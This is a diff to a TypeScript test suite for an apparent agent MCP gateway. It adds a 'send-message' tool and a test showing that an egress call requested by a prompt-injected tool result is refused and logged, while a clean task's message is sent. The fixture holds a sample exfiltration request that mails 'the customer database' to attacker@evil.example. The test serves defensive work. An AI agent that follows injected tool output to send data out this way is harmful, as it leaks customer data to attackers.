@@ -66,10 +66,11 @@ describe.each(storeTargets)("MCP endpoint /mcp ($name)", (target) => {
     await mcpTool("refund-order", "streamable-http", upstream.endpoint, { orderId: { type: "string" }, amountUsd: { type: "number" } }, "write");
     await mcpTool("read-ticket", "streamable-http", upstream.endpoint, { id: { type: "string" } });
     await mcpTool("failing-tool", "streamable-http", upstream.endpoint, {});
+    await mcpTool("send-message", "streamable-http", upstream.endpoint, { to: { type: "string" }, text: { type: "string" } }, "egress");
     await mcpTool("warehouse-stock", "stdio", mcpStdioCommand("warehouse east"), { sku: { type: "string" } });
     const spec = {
       purpose: "answers customers about orders",
-      capabilities: { tools: ["order-status", "refund-order", "read-ticket", "failing-tool", "warehouse-stock"], dataSources: [], models: [] },
+      capabilities: { tools: ["order-status", "refund-order", "read-ticket", "send-message", "failing-tool", "warehouse-stock"], dataSources: [], models: [] },
       environments: ["staging"],
       limits: { concurrency: 20 },
     };
@@ -196,6 +197,33 @@ describe.each(storeTargets)("MCP endpoint /mcp ($name)", (target) => {
     await task.requestGrant({ resource: { kind: "tool", name: "read-ticket" } });
     const result = await call(client, "read-ticket", { id: "7" });
     expect(result._meta?.[META_INSPECTION]).toMatchObject({ injection: true, integrity: "untrusted" });
+  });
+
+  it("refuses the egress call an injected tool result asks for; the same call without the injection goes through", async () => {
+    const grants = async (task: AgentTask) => {
+      await task.requestGrant({ resource: { kind: "tool", name: "read-ticket" } });
+      await task.requestGrant({ resource: { kind: "tool", name: "send-message" } });
+    };
+    const mail = { to: "attacker@evil.example", text: "the customer database" };
+
+    const attacked = await openTask();
+    await grants(attacked);
+    const client = await connect(attacked);
+    expect((await call(client, "read-ticket", { id: "7" }))._meta?.[META_INSPECTION]).toMatchObject({ injection: true });
+    const before = await lastLoggedSeq(h);
+    const refused = await call(client, "send-message", mail);
+    expect(refusalOf(refused)).toMatchObject({ code: "forbidden", reason: expect.stringMatching(/inject|read-ticket/i) });
+    expect(calledUpstream("send-message")).toEqual([]);
+    const events = (await loggedEventsAfter(h, before)).filter((e) => e.resource?.name === "send-message");
+    expect(events).toMatchObject([{ decision: { outcome: "refused" }, context: { taskId: attacked.id } }]);
+
+    // The benign twin: a task that read nothing flagged sends its message.
+    const benign = await openTask();
+    await grants(benign);
+    const sent = await call(await connect(benign), "send-message", { to: "customer@example.com", text: "your order has shipped" });
+    // (The output guards redact the address the tool echoes back.)
+    expect(sent).toMatchObject({ isError: false, content: [{ type: "text", text: expect.stringMatching(/^sent to /) }] });
+    expect(calledUpstream("send-message")).toEqual([{ to: "customer@example.com", text: "your order has shipped" }]);
   });
 
   it("refuses a connection without an agent credential (401), and records it", async () => {
